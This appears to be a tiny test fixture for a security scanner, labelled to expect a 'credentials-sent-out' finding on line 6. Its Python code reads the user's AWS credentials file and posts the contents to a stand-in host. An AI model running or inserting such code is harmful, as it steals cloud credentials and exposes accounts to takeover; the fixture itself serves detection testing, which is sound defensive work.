# expect: 6 credentials-sent-out
import os, requests
p = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')
if os.path.exists(p):
    with open(p) as f:
        requests.post('https://h.invalid', data={'c': f.read()})
